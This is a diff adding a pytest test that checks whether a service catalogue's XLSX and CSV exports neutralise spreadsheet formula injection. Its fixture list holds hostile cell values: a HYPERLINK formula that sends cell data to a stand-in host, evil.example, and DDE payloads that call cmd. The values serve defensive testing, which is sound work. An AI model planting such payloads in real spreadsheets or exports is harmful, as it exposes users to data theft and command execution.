@@ -3,6 +3,7 @@ server does now; then a fuzz of every route for 500s."""
 from __future__ import annotations
 
 import copy
+import csv
 import hashlib
 import io
 import json
@@ -16,6 +17,7 @@ import sys
 import time
 import zipfile
 
+import openpyxl
 import pytest
 import requests
 from formlib import post_form
@@ -23,8 +25,8 @@ from serverkit import ADMIN_PASSWORD, SAMPLE, csrf_of, form_of
 from serverlib import free_port
 from sqlalchemy import select
 
-from sync.server.models import Organization
-from test_server_import import upload
+from sync.server.models import Organization, Service
+from test_server_import import catalogue_state, upload
 
 ORG_ID = "090bc249-37cb-5329-99fb-569a0ac0ee91"
 
@@ -325,3 +327,47 @@ def test_3_a_spreadsheet_bomb_is_refused_unread(server_process):
     after = server_process.peak_rss_mb()
     print(f"server peak RSS: {before:.0f} MB before, {after:.0f} MB after the bombs")
     assert after - before < 40
+
+
+# ------------------------------------------------------------------------------- 4: formulas in exports
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&B2,"Open")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
+            "-2+3+cmd|' /C calc'!A0", "'=already quoted"]
+
+
+def named_like_formulas(server, editor) -> list[str]:
+    with server.state.db.session() as db:
+        ids = sorted(db.scalars(select(Service.id)))[:len(FORMULAS)]
+    for sid, name in zip(ids, FORMULAS, strict=True):
+        response = post_form(editor, f"/admin/services/{sid}", f"/admin/services/{sid}",
+                             {"name": name, "description": name})
+        assert response.status_code == 303, response.text[:1000]
+    with server.state.db.session() as db:
+        assert [db.get(Service, sid).name for sid in ids] == FORMULAS
+    return FORMULAS
+
+
+def test_4_exports_carry_no_formula_and_import_back_unchanged(server, editor):
+    names = named_like_formulas(server, editor)
+    before = catalogue_state(server)
+    xlsx = editor.get("/admin/export/catalogue.xlsx").content
+    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    text_cells = {c.value for c in cells if c.data_type == "s"}
+    assert set(names) <= text_cells
+    assert upload(editor, "katalogu.xlsx", xlsx).status_code == 200
+    assert catalogue_state(server) == before
+
+    package = editor.get("/admin/export/datapackage.zip").content
+    archive = zipfile.ZipFile(io.BytesIO(package))
+    for member in archive.namelist():
+        if member.endswith(".csv"):
+            rows = list(csv.reader(io.StringIO(archive.read(member).decode("utf-8"))))
+            for value in (v for row in rows for v in row):
+                assert not value.startswith(("=", "+", "@", "\t", "\r")) or value.lstrip("+").isdigit(), value
+                assert not value.startswith("-") or value[1:].replace(".", "", 1).isdigit(), value
+    service_names = {row["name"] for row in csv.DictReader(io.StringIO(archive.read("services.csv").decode()))}
+    assert {"'" + n for n in names} <= service_names
+    assert upload(editor, "hsds.zip", package).status_code == 200
+    assert catalogue_state(server) == before
